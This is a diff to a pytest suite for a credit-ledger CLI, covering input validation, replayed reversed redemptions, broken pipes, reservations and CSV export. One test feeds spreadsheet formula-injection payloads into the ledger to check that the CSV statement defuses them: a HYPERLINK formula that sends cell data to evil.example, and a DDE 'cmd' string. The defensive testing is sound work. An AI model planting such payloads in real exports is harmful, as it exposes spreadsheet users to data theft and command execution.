@@ -117,19 +117,12 @@ def test_redeem_balance_statement_contract(db: str) -> None:
      "refused: unknown service 'WIDGET': expected one of SMO TG IMWS SRRA PBNIR PIIR CACR PHC"),
     (["redeem", "nobody", "PHC", "--date", "2026-04-01", "--request-id", "x"],
      "refused: unknown customer 'nobody': register it first (ledger register --inventory)"),
-    (["redeem", "acme-sg", "PHC", "--date", "2026-04-31", "--request-id", "x"],
-     "refused: bad date '2026-04-31': expected YYYY-MM-DD, e.g. 2026-01-10"),
-    (["redeem", "acme-sg", "TG", "--units", "x", "--date", "2026-04-01", "--request-id", "x"],
-     "refused: bad units 'x': expected a whole number"),
     (["redeem", "acme-sg", "PHC", "--date", "2028-01-01", "--request-id", "x"],
      "refused: acme-sg is not eligible on 2028-01-01: Juniper Care contract JC-1001 ended 2027-12-31, before "
      "2028-01-01"),
-    (["purchase", "acme-sg", "-5", "--date", "2026-04-01"], "refused: bad credits -5: expected 1 to 1000000"),
     (["purchase", "nobody", "5", "--date", "2026-04-01"],
      "refused: unknown customer 'nobody': register it first (ledger register --inventory)"),
     (["reverse", "never-seen", "--reason", "x"], "refused: no redemption with request id 'never-seen'"),
-    (["balance", "acme-sg", "--date", "tomorrow"],
-     "refused: bad date 'tomorrow': expected YYYY-MM-DD, e.g. 2026-01-10"),
 ])
 def test_refusals_are_one_line_exit_3_and_change_nothing(db: str, args: list[str], message: str) -> None:
     with open_at(db) as ledger:
@@ -138,6 +131,98 @@ def test_refusals_are_one_line_exit_3_and_change_nothing(db: str, args: list[str
     assert (proc.returncode, proc.stdout, proc.stderr) == (3, "", message + "\n")
     with open_at(db) as ledger:
         assert journal_snapshot(ledger) == before
+
+
+LONG = "P" * 201
+
+
+@pytest.mark.parametrize(("args", "message"), [
+    (["redeem", "acme-sg", "PHC", "--date", "2026-04-31", "--request-id", "x"],
+     "error: bad date '2026-04-31': expected YYYY-MM-DD, e.g. 2026-01-10"),
+    (["redeem", "acme-sg", "TG", "--units", "x", "--date", "2026-04-01", "--request-id", "x"],
+     "error: bad units 'x': expected a whole number"),
+    (["purchase", "acme-sg", "-5", "--date", "2026-04-01"], "error: bad credits -5: expected 1 to 1000000"),
+    (["balance", "acme-sg", "--date", "tomorrow"],
+     "error: bad date 'tomorrow': expected YYYY-MM-DD, e.g. 2026-01-10"),
+    # issue 14: an ISO week date was read as 2025-12-29; 9999-12-31 was a traceback (the lot's expiry overflowed)
+    (["purchase", "acme-sg", "5", "--date", "2026-W01-1"],
+     "error: bad date '2026-W01-1': expected YYYY-MM-DD, e.g. 2026-01-10"),
+    (["purchase", "acme-sg", "5", "--date", "9999-12-31"],
+     "error: bad date 9999-12-31: expected a date from 1990-01-01 to 2200-12-31"),
+    (["balance", "acme-sg", "--date", "1989-12-31"],
+     "error: bad date 1989-12-31: expected a date from 1990-01-01 to 2200-12-31"),
+    # issue 14: int() took "1_0" as 10 and Arabic-Indic digits as numbers
+    (["redeem", "acme-sg", "TG", "--units", "1_0", "--date", "2026-04-01", "--request-id", "x"],
+     "error: bad units '1_0': expected a whole number"),
+    (["redeem", "acme-sg", "TG", "--units", "\u0663", "--date", "2026-04-01", "--request-id", "x"],
+     "error: bad units '\u0663': expected a whole number"),
+    (["purchase", "acme-sg", "\uff15", "--date", "2026-04-01"], "error: bad credits '\uff15': expected a whole number"),
+    # issue 14: over-long text was stored by SQLite and failed as "write failed" (exit 2) on PostgreSQL
+    (["purchase", "acme-sg", "5", "--date", "2026-04-01", "--reference", LONG],
+     "error: purchase reference too long: 201 characters, at most 200"),
+    (["redeem", "acme-sg", "TG", "--date", "2026-04-01", "--request-id", LONG],
+     "error: a request id is required: 1 to 200 printable characters (got 201)"),
+    (["reserve", "acme-sg", "TG", "--date", "2026-04-01", "--request-id", "x", "--holder", "h" * 1001],
+     "error: holder too long: 1001 characters, at most 1000"),
+])
+def test_bad_input_is_one_line_exit_2_and_changes_nothing(db: str, args: list[str], message: str) -> None:
+    with open_at(db) as ledger:
+        before = journal_snapshot(ledger)
+    proc = run("--ledger", db, *args)
+    assert (proc.returncode, proc.stdout, proc.stderr) == (2, "", message + "\n")
+    with open_at(db) as ledger:
+        assert journal_snapshot(ledger) == before
+
+
+def test_a_reversed_redemption_is_not_replayed_as_charged(db: str) -> None:
+    """issue 14: redeem with the id of a reversed redemption said "already redeemed, nothing charged again" while
+    the credits stayed refunded."""
+    args = ("--ledger", db, "redeem", "acme-sg", "PHC", "--date", "2026-04-01", "--request-id", "r-1")
+    assert run(*args).returncode == 0
+    assert run("--ledger", db, "reverse", "r-1", "--reason", "not delivered", "--date", "2026-04-02").returncode == 0
+    with open_at(db) as ledger:
+        before = journal_snapshot(ledger)
+    proc = run(*args)
+    assert (proc.returncode, proc.stdout) == (3, "")
+    assert proc.stderr == ("refused: request id 'r-1' was charged on 2026-04-01 and reversed on 2026-04-02 "
+                           "(not delivered); give a new request id; nothing charged\n")
+    with open_at(db) as ledger:
+        assert journal_snapshot(ledger) == before
+        assert ledger.balance("acme-sg", "2026-04-02").available == 16
+
+
+def test_statement_csv_defuses_formulas(db: str) -> None:
+    """issue 14: a request id or note such as =HYPERLINK(...) was written as is, and a spreadsheet would run it."""
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    for n, (rid, note) in enumerate([(evil, "+cmd|' /C calc'!A0"), ("@SUM(1+1)", "-2+3"), ("plain", "fine")]):
+        proc = run("--ledger", db, "redeem", "acme-sg", "TG", "--date", f"2026-04-0{n + 1}", f"--request-id={rid}",
+                   f"--note={note}")
+        assert proc.returncode == 0, proc.stderr
+    proc = run("--ledger", db, "statement", "acme-sg", "--csv")
+    rows = list(csv.DictReader(io.StringIO(proc.stdout)))
+    cells = [row[key] for row in rows for key in ("request_id", "note", "reference", "holder")]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
+    redeemed = [row for row in rows if row["type"] == "redemption"]
+    assert [(r["request_id"], r["note"]) for r in redeemed] == [
+        ("'" + evil, "'+cmd|' /C calc'!A0"), ("'@SUM(1+1)", "'-2+3"), ("plain", "fine")]
+    assert [r["credits"] for r in redeemed] == ["-1", "-1", "-1"]  # numbers the ledger writes stay numbers
+
+
+def test_output_into_a_closed_pipe_ends_quietly(db: str) -> None:
+    """issue 14: ``ledger balance | head`` ended in a BrokenPipeError traceback."""
+    with open_at(db) as ledger:
+        for n in range(300):
+            ledger.purchase("acme-sg", 1, "2026-01-10", f"PO-{n}")
+    for args in (["balance", "acme-sg"], ["statement", "acme-sg"], ["statement", "acme-sg", "--csv"],
+                 ["statement", "acme-sg", "--json"]):
+        script = (f"{sys.executable} {ROOT / 'run_assessment.py'} ledger --ledger {db} {' '.join(args)} | head -n 1;"
+                  " exit ${PIPESTATUS[0]}")
+        proc = subprocess.run(["bash", "-c", script], capture_output=True, text=True, check=False, cwd=ROOT)
+        assert proc.stderr == "", proc.stderr
+        assert len(proc.stdout.splitlines()) == 1
+        # 141 (README's exit-code table) when the reader left first; 0 when everything fitted in the pipe before
+        # it did. The JSON statement (over 64 KiB, more than a pipe holds) always meets the closed pipe.
+        assert proc.returncode == 141 if "--json" in args else proc.returncode in (0, 141)
 
 
 def test_where_the_ledger_lives(tmp_path: Path) -> None:
@@ -213,3 +298,38 @@ def test_command_line_loads_sqlalchemy_only_for_ledger_commands() -> None:
             "c.ledger_url(a); print('sqlalchemy' in sys.modules)")
     proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, check=True)
     assert proc.stdout.strip() == "False"
+
+
+def test_reserve_capture_release_and_reservations(db: str) -> None:
+    proc = run("--ledger", db, "reserve", "acme-sg", "CACR", "--date", "2026-04-01", "--request-id", "c-1",
+               "--holder", "a test")
+    assert (proc.returncode, proc.stderr) == (0, "")
+    assert proc.stdout.splitlines() == [
+        "reserved CACR x1 for acme-sg on 2026-04-01: 5 credits held from lot 1 (5, expires 2027-01-09); request c-1 "
+        "(entry 3)", "warning: C. Eng <c@acme.example> has no JNCIS-level certification: recommended"]
+    proc = run("--ledger", db, "balance", "acme-sg", "--date", "2026-04-01")
+    assert proc.stdout.splitlines()[0] == ("acme-sg on 2026-04-01: 11 credits available, 5 held by open "
+                                           "reservations, 0 expired unused, 0 bought for later")
+    listed = run("--ledger", db, "reservations").stdout.splitlines()
+    assert listed[0].split() == ["request_id", "customer", "service", "units", "credits", "date", "reserved_at",
+                                 "holder"]
+    assert listed[1].split()[:6] == ["c-1", "acme-sg", "CACR", "1", "5", "2026-04-01"]
+    assert listed[1].endswith("a test")
+    proc = run("--ledger", db, "capture", "c-1")
+    assert proc.stdout == ("captured request c-1: 5 credits charged for CACR x1 (acme-sg, 2026-04-01) from lot 1 "
+                           "(5, expires 2027-01-09) (entry 5)\n")
+    assert run("--ledger", db, "capture", "c-1").stdout.startswith("already captured, nothing charged again:")
+    assert run("--ledger", db, "reservations").stdout == "no open reservations\n"
+    proc = run("--ledger", db, "release", "c-1", "--reason", "late")
+    assert (proc.returncode, proc.stderr) == (3, "refused: request id 'c-1' was captured (charged), not held: to "
+                                                 "refund it use ledger reverse; nothing released\n")
+    run("--ledger", db, "reserve", "acme-sg", "PHC", "--date", "2026-04-01", "--request-id", "p-1")
+    proc = run("--ledger", db, "release", "p-1", "--reason", "no review", "--json")
+    assert proc.returncode == 0
+    assert {k: json.loads(proc.stdout)[k] for k in ("status", "credits", "released")} == {
+        "status": "released", "credits": 5, "released": "no review"}
+    rows = list(csv.DictReader(io.StringIO(run("--ledger", db, "statement", "acme-sg", "--csv").stdout)))
+    assert [(r["type"], r["credits"], r["request_id"], r["reverses"]) for r in rows if r["type"] != "purchase"] == [
+        ("reservation", "-5", "c-1", ""), ("release", "5", "c-1", "3"), ("redemption", "-5", "c-1", ""),
+        ("reservation", "-5", "p-1", ""), ("release", "5", "p-1", "6")]
+    assert next(r["holder"] for r in rows if r["type"] == "reservation") == "a test"
